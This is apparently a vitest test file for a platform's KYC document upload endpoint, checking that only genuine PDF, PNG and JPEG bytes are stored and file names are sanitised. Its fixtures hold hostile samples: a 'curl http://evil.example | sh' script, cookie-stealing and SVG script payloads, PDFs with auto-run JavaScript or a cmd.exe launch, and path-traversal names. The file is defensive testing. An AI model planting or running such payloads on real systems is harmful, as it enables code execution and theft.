/**
 * Document uploads (KYC and source of wealth): recognised by their bytes, not their names. A real
 * PDF, PNG and JPEG are stored and listed; a renamed executable, a script saved as .pdf, a PNG named
 * .pdf, an oversized file, images that are also web pages and PDFs with active content are each
 * refused with a clear reason, and nothing of theirs is stored. Names are stored as safe display names.
 */
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_DOCUMENT_BYTES } from '../../shared/http-limits.ts';
import { MAX_FILE_NAME_LENGTH, documentDownloadHeaders, safeFileName } from '../src/players/documents.ts';
import { DATABASES, bearer, signInBySms, startPlatform } from './helpers.ts';
import type { TestPlatform } from './helpers.ts';

/** A PNG chunk (the CRC is left zero: the sniffer and the checks do not read it). */
const chunk = (type: string, data: Buffer) => {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  return Buffer.concat([length, Buffer.from(type, 'ascii'), data, Buffer.alloc(4)]);
};
/** A 1×1 PNG, with extra chunks before its end when given. */
function png(...extra: Buffer[]): Buffer {
  const header = Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0]);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', header), ...extra, chunk('IDAT', deflateSync(Buffer.from([0, 255, 0, 0]))), chunk('IEND', Buffer.alloc(0))]);
}
/** A one-page PDF whose catalog carries `catalog` and whose extra objects are `objects` (numbered from 3). */
function pdf(catalog = '', objects: Buffer[] = []): Buffer {
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R ${catalog} >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n`),
    ...objects,
    Buffer.from('trailer << /Root 1 0 R >>\n%%EOF\n'),
  ]);
}
/** A compressed object stream (PDF 1.5) packing one object, `body`, as object 9. */
function objectStream(body: string, filter = '/FlateDecode'): Buffer {
  const packed = `9 0 ${body}`;
  const data = filter === '/FlateDecode' ? deflateSync(Buffer.from(packed)) : Buffer.from(packed);
  return Buffer.concat([Buffer.from(`3 0 obj << /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length ${data.length} >> stream\r\n`), data, Buffer.from('\r\nendstream endobj\n')]);
}
const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('JFIF\0', 'binary'), Buffer.alloc(64, 1), Buffer.from([0xff, 0xd9])]);
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58, 0), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64, 0), Buffer.from('PE\0\0'), Buffer.alloc(64, 0)]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');

describe.each(DATABASES)('document uploads on $name', (database) => {
  let app: TestPlatform;
  let headers: Record<string, string>;
  beforeAll(async () => {
    app = await startPlatform(database);
    headers = bearer((await signInBySms(app, `+35844${String(Date.now() % 1_000_000).padStart(6, '0')}`)).accessToken);
  });
  afterAll(() => app?.close());

  const upload = (bytes: Buffer, name: string, query = 'kind=Identity', extra: Record<string, string> = headers) =>
    fetch(`${app.url}/platform/documents?${query}&name=${encodeURIComponent(name)}`, { method: 'POST', headers: { 'x-brand': 'aurelia', 'content-type': 'application/octet-stream', ...extra }, body: new Uint8Array(bytes) });
  const listed = async () => (await app.gql('{ viewer { documents { kind fundingType fileName contentType sizeBytes status } } }', {}, headers)).data.viewer.documents as { fileName: string; contentType: string }[];

  it('stores a real PDF, PNG and JPEG, typed by their bytes, and lists them newest first', async () => {
    for (const [bytes, name, query] of [[PDF, 'passport.pdf', 'kind=Identity'], [png(), 'bill.png', 'kind=Address'], [JPEG, 'payslip.JPG', 'kind=SourceOfWealth&fundingType=Salary']] as const) {
      const response = await upload(bytes, name, query);
      expect(response.status, await response.clone().text()).toBe(201);
      expect((await response.json()).document).toMatchObject({ fileName: name, status: 'Pending', sizeBytes: bytes.length });
    }
    expect(await listed()).toEqual([
      { kind: 'SourceOfWealth', fundingType: 'Salary', fileName: 'payslip.JPG', contentType: 'image/jpeg', sizeBytes: JPEG.length, status: 'Pending' },
      { kind: 'Address', fundingType: null, fileName: 'bill.png', contentType: 'image/png', sizeBytes: png().length, status: 'Pending' },
      { kind: 'Identity', fundingType: null, fileName: 'passport.pdf', contentType: 'application/pdf', sizeBytes: PDF.length, status: 'Pending' },
    ]);
  });

  it.each([
    ['a renamed executable', EXE, 'passport.pdf', 415, 'UnsupportedFile', 'This file is not a JPEG, PNG or PDF (it is exe): upload a photo or a scan in one of those formats'],
    ['a script saved as .pdf', SCRIPT, 'statement.pdf', 415, 'UnsupportedFile', 'This file is not a JPEG, PNG or PDF: upload a photo or a scan in one of those formats'],
    ['a PNG named .pdf', png(), 'scan.pdf', 415, 'UnsupportedFile', 'The file is named .pdf but is a PNG: rename it to end .png and upload it again'],
    ['a .docx', PDF, 'letter.docx', 415, 'UnsupportedFile', '"letter.docx" is not a JPEG, PNG or PDF file name: upload a file ending .jpg, .jpeg, .png or .pdf'],
    ['a JPEG whose name hides .exe behind a right-to-left override', JPEG, 'invoice\u202Egpj.exe', 415, 'UnsupportedFile', '"invoicegpj.exe" is not a JPEG, PNG or PDF file name: upload a file ending .jpg, .jpeg, .png or .pdf'],
    ['an empty file', Buffer.alloc(0), 'empty.pdf', 400, 'BadUserInput', 'The file is empty: choose the document again'],
    ['a file over the size cap', Buffer.concat([PDF, Buffer.alloc(MAX_DOCUMENT_BYTES)]), 'huge.pdf', 413, 'DocumentTooLarge', 'The file is larger than 5 MB: upload a smaller photo or scan'],
  ])('refuses %s with a clear reason and stores nothing', async (_, bytes, name, status, reason, message) => {
    const before = (await listed()).length;
    const response = await upload(bytes, name);
    expect(response.status).toBe(status);
    expect((await response.json()).error).toMatchObject({ reason, message });
    expect((await listed()).length).toBe(before);
  });

  const POLYGLOT = (type: string, marker: string) =>
    `This ${type} also contains web page code (${marker}), which a document must not: save the photo or scan again (a screenshot or an export from an image editor or your scanner) and upload that`;
  const ACTIVE = (name: string) => `This PDF contains active content (/${name}): a document must be a plain PDF. Print it to a new PDF or upload a photo or scan of it instead`;
  it.each([
    ['a PNG with a script in a text chunk', png(chunk('tEXt', Buffer.from('Comment\0<script>alert(document.cookie)</script>'))), 'id.png', POLYGLOT('PNG', '<script')],
    ['a PNG with an SVG in a text chunk', png(chunk('iTXt', Buffer.from('XML\0\0\0\0\0<svg onload=alert(1)>'))), 'id.png', POLYGLOT('PNG', '<svg')],
    ['a PNG with a page after its end', Buffer.concat([png(), Buffer.from('<!DOCTYPE html><html><body>hi</body></html>')]), 'id.png', POLYGLOT('PNG', '<!DOCTYPE')],
    ['a PNG with an upper-case HTML tag', Buffer.concat([png(), Buffer.from('<HTML>')]), 'id.png', POLYGLOT('PNG', '<HTML')],
    ['a JPEG with a page in a comment', Buffer.concat([JPEG.subarray(0, -2), Buffer.from([0xff, 0xfe, 0x00, 0x20]), Buffer.from('<iframe src=//evil.example>   '), Buffer.from([0xff, 0xd9])]), 'id.jpg', POLYGLOT('JPEG', '<iframe')],
    ['a PDF with a page in it', pdf('/Note (<html><script>x</script>)'), 'id.pdf', POLYGLOT('PDF', '<html')],
    ['a PDF with a javascript: link', pdf('/URI (javascript:alert(1))'), 'id.pdf', POLYGLOT('PDF', 'javascript:')],
    ['a PDF that runs JavaScript when opened', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), 'id.pdf', ACTIVE('JavaScript')],
    ['a PDF hiding /JavaScript behind #xx escapes', pdf('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'), 'id.pdf', ACTIVE('JavaScript')],
    ['a PDF with only an escaped /JS', pdf('/OpenAction << /#4aS 5 0 R >>'), 'id.pdf', ACTIVE('JS')],
    ['a PDF with additional actions', pdf('/AA << /WC 5 0 R >>'), 'id.pdf', ACTIVE('AA')],
    ['a PDF that launches a program', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'id.pdf', ACTIVE('Launch')],
    ['a PDF with embedded files', pdf('/Names << /EmbeddedFiles 5 0 R >>'), 'id.pdf', ACTIVE('EmbeddedFiles')],
    ['a PDF with rich media', pdf('', [Buffer.from('3 0 obj << /Type /Annot /Subtype /RichMedia >> endobj\n')]), 'id.pdf', ACTIVE('RichMedia')],
    ['a PDF with JavaScript packed in a compressed object stream', pdf('', [objectStream('<< /S /JavaScript /JS (app.alert(1)) >>')]), 'id.pdf', ACTIVE('JavaScript')],
    ['a PDF whose object stream cannot be read', pdf('', [objectStream('<< /S /GoTo >>', '/LZWDecode')]), 'id.pdf', 'This PDF is encrypted or packed in a way that cannot be checked: print it to a new PDF (or save a copy without protection) and upload that'],
  ])('refuses %s, saying why, and stores nothing', async (_, bytes, name, message) => {
    const before = (await listed()).length;
    const response = await upload(bytes, name);
    expect(response.status).toBe(415);
    expect((await response.json()).error).toMatchObject({ reason: 'UnsupportedFile', message });
    expect((await listed()).length).toBe(before);
  });

  it.each([
    ['a PDF that opens at a page, with a plain object stream', pdf('/OpenAction [4 0 R /Fit] /PageMode /UseOutlines', [objectStream('<< /Title (Statement for March) /Author (Bank) >>')]), 'statement.pdf', 'application/pdf'],
    ['a PNG with a plain text chunk', png(chunk('tEXt', Buffer.from('Software\0Scanner 3.1 <v2> a<b'))), 'scan.png', 'image/png'],
  ])('takes %s', async (_, bytes, name, contentType) => {
    const response = await upload(bytes, name);
    expect(response.status, await response.clone().text()).toBe(201);
    expect((await response.json()).document).toMatchObject({ fileName: name, contentType });
  });

  it.each([
    ['../../etc/passwd', PDF, 'passwd.pdf'],
    ['C:\\Users\\me\\Scans\\id card.PNG', png(), 'id card.PNG'],
    ['..\\..\\boot.ini\\photo.jpeg', JPEG, 'photo.jpeg'],
    ['pass\u0000po\u0007rt\r\n\u0085.pdf', PDF, 'passport.pdf'],
    ['\u2067\u2066bill\u200E\u200F\u061C\u202A\u202B\u202C\u202D\u202E\u2068\u2069\u200B\uFEFF.png', png(), 'bill.png'],
    ['\u202E\u2066/..//.', PDF, 'document.pdf'],
    ['', JPEG, 'document.jpg'],
    ['my "best" scan?*:<>|', PDF, 'my _best_ scan______.pdf'],
    ['   .hidden   name .pdf  ', PDF, 'hidden name.pdf'],
    [`${'a'.repeat(150)}.pdf`, PDF, `${'a'.repeat(96)}.pdf`],
    [`${'é'.repeat(120)}.jpeg`, JPEG, `${'é'.repeat(95)}.jpeg`],
  ])('stores %j under a safe display name', async (name, bytes, stored) => {
    const response = await upload(bytes, name);
    expect(response.status, await response.clone().text()).toBe(201);
    expect((await response.json()).document.fileName).toBe(stored);
    expect(safeFileName(name).base.length).toBeLessThanOrEqual(MAX_FILE_NAME_LENGTH);
  });

  it('gives the headers a back office must serve a stored document with', () => {
    expect(documentDownloadHeaders({ fileName: 'kuitti €5 "final".pdf', contentType: 'application/pdf', sizeBytes: 1234 })).toEqual({
      'content-type': 'application/pdf',
      'content-length': '1234',
      'content-disposition': `attachment; filename="kuitti ?5 \\"final\\".pdf"; filename*=UTF-8''kuitti%20%E2%82%AC5%20%22final%22.pdf`,
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; sandbox",
      'cross-origin-resource-policy': 'same-origin',
      'cache-control': 'private, no-store',
      'referrer-policy': 'no-referrer',
    });
  });

  it('needs the player: no token, no upload', async () => {
    const response = await upload(PDF, 'passport.pdf', 'kind=Identity', {});
    expect(response.status).toBe(401);
    expect((await response.json()).error.reason).toBe('AuthenticationFailure');
  });
});
